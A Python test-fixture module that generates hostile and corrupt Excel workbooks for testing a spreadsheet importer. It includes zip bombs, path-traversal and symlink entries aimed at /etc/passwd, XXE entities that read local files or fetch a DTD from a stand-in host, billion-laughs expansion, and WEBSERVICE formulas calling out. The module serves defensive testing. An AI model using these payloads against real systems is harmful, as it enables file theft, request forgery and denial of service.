"""Workbooks that mean harm or are broken past mending, made by rule: families, each in several strengths."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from typing import Final

from tests.exchange.corpus import SHEET, plain_workbook, repacked, workbook
from tests.exchange.hostile_text import MB, Family

BOOK: Final = plain_workbook()
_MAIN: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_LINKS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEAD: Final = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Forename</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>Surname</t></is></c></row>'
)
_PARTS: Final = (
    SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml", "_rels/.rels",
    "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml", "docProps/core.xml", "xl/theme/theme1.xml",
)  # fmt: skip


def sheet(inside: str, after: str = "", start: str = "") -> bytes:
    """Give the XML of a sheet whose rows are `inside`."""
    body = f'<worksheet xmlns="{_MAIN}"><sheetData>{inside}</sheetData>{after}</worksheet>'
    return f'<?xml version="1.0"?>{start}{body}'.encode()


def _with_sheet(inside: str, after: str = "") -> bytes:
    return repacked(BOOK, {SHEET: sheet(inside, after)})


def _row(cells: str) -> bytes:
    return _with_sheet(f'{_HEAD}<row r="2">{cells}</row>')


def _part(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(BOOK)) as archive:
        return archive.read(name)


def _with_doctype(name: str, doctype: str) -> bytes:
    body = _part(name) if name in zipfile.ZipFile(io.BytesIO(BOOK)).namelist() else b"<sst>&x;</sst>"
    plain = body.split(b"?>", 1)[-1]
    return repacked(BOOK, {name: f'<?xml version="1.0"?>{doctype}'.encode() + plain})


def _reading_a_file(name: str) -> bytes:
    return _with_doctype(name, '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def _calling(name: str) -> bytes:
    return _with_doctype(name, '<!DOCTYPE l [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>')


def _laughing(depth: int) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth))
    inside = f'<row r="1"><c r="A1" t="inlineStr"><is><t>&l{depth - 1};</t></is></c></row>'
    return repacked(BOOK, {SHEET: sheet(inside, start=f'<!DOCTYPE l [<!ENTITY l0 "ha">{levels}]>')})


def _entities_written_in(encoding: str) -> bytes:
    """A document type that stands in the file in bytes that do not read `<!DOCTYPE`."""
    start = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    xml = sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>', start=start).decode()
    said = f'<?xml version="1.0" encoding="{encoding}"?>'
    return repacked(BOOK, {SHEET: said.encode() + xml.split("?>", 1)[1].encode(encoding)})


def _swollen(where: tuple[str, int]) -> bytes:
    name, size = where
    return repacked(BOOK, {name: b"<a>" + b" " * size + b"</a>"})


def _large(size: int) -> bytes:
    return repacked(BOOK, {"xl/media/image1.bin": random.Random(1).randbytes(MB) * size}, zipfile.ZIP_STORED)


def _many_parts(number: int) -> bytes:
    return repacked(BOOK, {f"xl/media/{each}.bin": b"" for each in range(number)}, zipfile.ZIP_STORED)


def _named(name: str) -> bytes:
    return repacked(BOOK, {name: b"<a/>"})


def _symlink(to: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(BOOK)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            if name == SHEET:
                link = zipfile.ZipInfo(name)
                link.create_system, link.external_attr = 3, 0o120777 << 16
                new.writestr(link, to)
            else:
                new.writestr(name, old.read(name))
    return out.getvalue()


def _nested(depth: int) -> bytes:
    inner = b" " * MB
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(4):
                archive.writestr(f"{level}-{copy}.zip", inner)
        inner = out.getvalue()
    return repacked(BOOK, {"xl/media/image1.zip": inner})


def _overlapping(number: int) -> bytes:
    """Many entries of the list of parts that all point at one part: small to send, large to unpack."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(SHEET, b"<a>" + random.Random(1).randbytes(MB // 2).hex().encode() + b"</a>")
        archive.writestr("[Content_Types].xml", _part("[Content_Types].xml"))
        for name in range(number):
            again = zipfile.ZipInfo(f"xl/worksheets/s{name}.xml")
            real = archive.getinfo(SHEET)
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(again, field, getattr(real, field))
            archive.filelist.append(again)
    return out.getvalue()


def _lying_sizes(size: int) -> bytes:
    """The list of parts says that the sheet is small; it unpacks to far more."""
    swollen = repacked(BOOK, {SHEET: sheet(_HEAD + " " * size)})
    at = swollen.rindex(SHEET.encode()) - 46
    return swollen[: at + 24] + struct.pack("<I", 500) + swollen[at + 28 :]


def _flipped(seed: int) -> bytes:
    body = bytearray(BOOK)
    dice = random.Random(seed)
    for _ in range(seed):
        body[dice.randrange(len(body))] ^= 1 << dice.randrange(8)
    return bytes(body)


def _wrong_crc(by: int) -> bytes:
    at = BOOK.rindex(SHEET.encode()) - 46
    return BOOK[: at + 16] + bytes([BOOK[at + 16] ^ by]) + BOOK[at + 17 :]


def _method(number: int) -> bytes:
    at = BOOK.rindex(SHEET.encode()) - 46
    return BOOK[: at + 10] + struct.pack("<H", number) + BOOK[at + 12 :]


def _flagged(bits: int) -> bytes:
    at = BOOK.rindex(SHEET.encode()) - 46
    return BOOK[: at + 8] + struct.pack("<H", bits) + BOOK[at + 10 :]


def _linked(target: str) -> bytes:
    """The sheet itself lies elsewhere, so the workbook says."""
    rels = _part("xl/_rels/workbook.xml.rels").replace(b"/xl/worksheets/sheet1.xml", target.encode())
    return repacked(BOOK, {"xl/_rels/workbook.xml.rels": rels})


def _other_books(target: str) -> bytes:
    link = (
        f'<Relationship Id="rId1" Type="{_OFFICE}/externalLinkPath" Target="{target}" TargetMode="External"/>'
    )
    outer = f'<externalLink xmlns="{_MAIN}"><externalBook xmlns:r="{_OFFICE}" r:id="rId1"/></externalLink>'
    inner = (
        f'<Relationship Id="rId1" Type="{_OFFICE}/hyperlink" Target="{target}" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="{_OFFICE}/image" Target="{target}" TargetMode="External"/>'
    )
    rels = '<Relationships xmlns="{}">{}</Relationships>'
    return repacked(
        BOOK,
        {
            "xl/externalLinks/externalLink1.xml": outer.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels.format(_LINKS, link).encode(),
            "xl/worksheets/_rels/sheet1.xml.rels": rels.format(_LINKS, inner).encode(),
            "xl/connections.xml": f'<connections xmlns="{_MAIN}"><a url="{target}"/></connections>'.encode(),
        },
    )


def _formula(words: str) -> bytes:
    return _row(f'<c r="A2"><f>{words}</f><v>1</v></c><c r="B2"><v>2</v></c>')


def _rows(number: int) -> bytes:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, number))
    return _with_sheet(_HEAD + rows)


def _far_row(number: str) -> bytes:
    return _with_sheet(f'{_HEAD}<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>x</t></is></c></row>')


def _far_cell(where: str) -> bytes:
    return _row(f'<c r="{where}" t="inlineStr"><is><t>x</t></is></c>')


def _shared(strings: list[str], rows: list[str]) -> bytes:
    table = "".join(f"<si><t>{string}</t></si>" for string in strings)
    body = f'<?xml version="1.0"?><sst xmlns="{_MAIN}">{table}</sst>'.encode()
    types = _part("[Content_Types].xml")
    if b"sharedStrings" not in types:
        said = b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'  # noqa: E501 - the format's own name
        types = types.replace(b"</Types>", said)
    parts = {"xl/sharedStrings.xml": body, "[Content_Types].xml": types, SHEET: sheet("".join(rows))}
    return repacked(BOOK, parts, zipfile.ZIP_STORED)


def _long_strings(size: tuple[str, int, int]) -> bytes:
    letter, length, rows = size
    return _shared([letter * length], [f"<row>{_POINTER * 100}</row>" for _ in range(rows)])


_POINTER: Final = '<c t="s"><v>0</v></c>'


def _deep(depth: int) -> bytes:
    return repacked(BOOK, {SHEET: sheet(_HEAD + "<a>" * depth + "</a>" * depth)}, zipfile.ZIP_STORED)


def _attributes(how: tuple[int, int]) -> bytes:
    """Give `many` names of attributes, so many to a tag."""
    many, to_a_tag = how
    names = [f'a{n:x}=""' for n in range(many)]
    tags = (" ".join(names[at : at + to_a_tag]) for at in range(0, many, to_a_tag))
    return _with_sheet(_HEAD + "".join(f"<row {tag}/>" for tag in tags))


def _many_formulas(rows: int) -> bytes:
    """Formulas whose answers are blank, in every other row."""
    lines = (f'<row r="{2 * n}"><c r="A{2 * n}" t="str"><f>A1</f><v></v></c></row>' for n in range(1, rows))
    return _with_sheet(_HEAD + "".join(lines))


def _formats(code: str) -> bytes:
    formats = f'<numFmts count="1"><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
    styles = _part("xl/styles.xml").decode()
    start = styles.index("<fonts")
    head = styles[:start].split("<numFmts", 1)[0]
    return repacked(BOOK, {"xl/styles.xml": (head + formats + styles[start:]).encode()}, zipfile.ZIP_STORED)


def _state(state: str) -> bytes:
    body = _part("xl/workbook.xml").replace(b'state="visible"', f'state="{state}"'.encode())
    return repacked(BOOK, {"xl/workbook.xml": body})


def _many_sheets(number: int) -> bytes:
    sheets = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(2, number))
    body = _part("xl/workbook.xml").decode().replace("</sheets>", f"{sheets}</sheets>")
    body = body.replace("<sheets>", f'<sheets xmlns:r="{_OFFICE}">')
    return repacked(BOOK, {"xl/workbook.xml": body.encode()})


def _around(how: str) -> bytes:
    return {
        "before": b"MZ" + bytes(500) + BOOK, "after": BOOK + b"\0" * 5000, "twice": BOOK + BOOK,
        "comment": BOOK[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16383,
        "list only": BOOK[BOOK.index(b"PK\x01\x02") :],
    }[how]  # fmt: skip


def _locked(how: str) -> bytes:
    start = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return start + bytes(64) + how.encode("utf-16-le") + bytes(4000)


def _named_like(parts: tuple[str, ...]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for part in parts:
            archive.writestr(part, "<a/>")
    return out.getvalue()


def _filler(kind: str) -> bytes:
    fill = {
        "comment": f"<!--{'x' * 30 * MB}-->",
        "cdata": f"<![CDATA[{'x' * 30 * MB}]]>",
        "pi": "<?a b?>" * 2 * MB,
    }
    return repacked(BOOK, {SHEET: sheet(_HEAD + fill[kind])}, zipfile.ZIP_STORED)


_WORDS: Final = 'HYPERLINK("http://192.0.2.1/")'
_ELSEWHERE: Final = ("file:///etc/passwd", "http://192.0.2.1/book.xlsx", "\\\\192.0.2.1\\share\\book.xlsx")
_CELLS: Final = (
    '<c r="A2" t="s"><v>99999999</v></c>', '<c r="A2" t="d"><v>nonsense</v></c>',
    '<c r="A2" t="zz"><v>1</v></c>',
    '<c r="A2" s="1"><v>1e308</v></c>', '<c r="A2" s="1"><v>-99999</v></c>',
    '<c r="A2" s="99999"><v>1</v></c>',
    '<c r="A2"><v>nan</v></c>', '<c r="A2"><v>1e999</v></c>', f'<c r="A2"><v>{"9" * 100_000}</v></c>',
    '<c r="A2" t="b"><v>maybe</v></c>', '<c r="A2" t="e"><v>#N/A</v></c>', '<c r="A2" s="-1"><v>1</v></c>',
)  # fmt: skip

_ANSWERLESS: Final = (
    "<f/>", '<f t="array" ref="A1:XFD1048576">1</f>', '<f t="shared" si="9"/>',
    '<f t="dataTable" ref="A1"/>',
)  # fmt: skip
_FAR: Final = ("XFD2", "ZZZZZ2", "A1048577", "A0", "2A", "", "AAAAAAAAAA1")
_NAMES: Final = ((100_000, 100_000), (1_000_000, 20), (2_000_000, 2_000_000))
_CODES: Final = ("[" * 50_000, "[h" * 50_000, "&quot;" * 9000, "d" * 10_000_000)

BOOKS: Final = (
    Family("a zip bomb by ratio", "list.xlsx", [(name, 60 * MB) for name in _PARTS], _swollen),
    Family("a zip bomb by size", "list.xlsx", (21, 70), _large),
    Family("sizes that lie", "list.xlsx", (MB, 60 * MB), _lying_sizes),
    Family("parts laid over one another", "list.xlsx", (40, 400), _overlapping),
    Family("zips in a zip", "list.xlsx", (3, 6), _nested),
    Family("thousands of parts", "list.xlsx", (100_000, 501), _many_parts),
    Family(
        "names that lead outside",
        "list.xlsx",
        ("../../evil", "/etc/passwd", "..\\..\\evil", "xl/../../evil", "C:\\evil", "xl/a\0b", "x" * 60_000),
        _named,
    ),
    Family("a link to a file", "list.xlsx", ("/etc/passwd", "../../../etc/passwd"), _symlink),
    Family(
        "a sheet elsewhere",
        "list.xlsx",
        ("../../../../etc/passwd", "file:///etc/passwd", "http://192.0.2.1/s.xml", "/xl/none.xml", ""),
        _linked,
    ),
    Family("links to other books", "list.xlsx", _ELSEWHERE, _other_books),
    Family("an outside entity", "list.xlsx", _PARTS, _reading_a_file),
    Family("an outside document type", "list.xlsx", _PARTS, _calling),
    Family("a billion laughs", "list.xlsx", (10, 3, 40), _laughing),
    Family(
        "entities in other letters",
        "list.xlsx",
        ("utf-16", "cp037", "cp500", "utf-16-be", "cp1026", "utf-7", "utf-32"),
        _entities_written_in,
    ),
    Family(
        "formulas with answers",
        "list.xlsx",
        (_WORDS, "WEBSERVICE(\"http://192.0.2.1/\")", "[1]Sheet1!A1", "A" * 9000),
        _formula,
    ),
    Family(
        "formulas without answers",
        "list.xlsx",
        _ANSWERLESS,
        lambda f: _row(f'<c r="A2">{f}</c><c r="B2"><v>1</v></c>'),
    ),
    Family("rows without end", "list.xlsx", (30_000, 120_000), _rows),
    Family("a row far down", "list.xlsx", ("1048576", "99999999999", "-5", "x", "1.5", "٣"), _far_row),
    Family("a cell far out", "list.xlsx", _FAR, _far_cell),
    Family("cells that are not what they say", "list.xlsx", _CELLS, _row),
    Family(
        "one long text in many cells",
        "list.xlsx",
        (("x", 9000, 1000), ("é", 9000, 4000), ("\u200b", 9000, 4000), ("x", 5 * MB, 100), ("=", 20, 4000)),
        _long_strings,
    ),
    Family("nested without end", "list.xlsx", (100_000, 900_000), _deep),
    Family("attributes without end", "list.xlsx", _NAMES, _attributes),
    Family("formulas in every other row", "list.xlsx", (9_000, 100_000), _many_formulas),
    Family("filling", "list.xlsx", ("comment", "cdata", "pi"), _filler),
    Family("formats of numbers", "list.xlsx", _CODES, _formats),
    Family("hidden sheets", "list.xlsx", ("veryHidden", "hidden", "nonsense"), _state),
    Family("sheets without end", "list.xlsx", (1000, 20_000), _many_sheets),
    Family("cut off", "list.xlsx", (1, 20, 200, 1000, 3000, len(BOOK) - 5), lambda n: BOOK[:-n]),
    Family("bits that fell over", "list.xlsx", (1, 2, 3, 8, 30, 200, 2000), _flipped),
    Family("a sum that does not match", "list.xlsx", (1, 255), _wrong_crc),
    Family("packed in other ways", "list.xlsx", (99, 12, 14, 1, 9), _method),
    Family("parts with a password", "list.xlsx", (1, 0x41, 0x2001), _flagged),
    Family("locked with a password", "list.xlsx", ("EncryptedPackage", "WordDocument", "Workbook"), _locked),
    Family("something around it", "list.xlsx", ("before", "after", "twice", "comment", "list only"), _around),
    Family(
        "another kind of archive",
        "list.xlsx",
        (("word/document.xml",), ("content.xml",), ("xl/workbook.bin", "[Content_Types].xml"), ("a",), (),
         ("xl/vbaProject.bin", "[Content_Types].xml"), ("[Content_Types].xml", "xl/x")),
        _named_like,
    ),
    Family("a workbook named csv", "list.csv", (BOOK, workbook([["a"]]))),
)  # fmt: skip
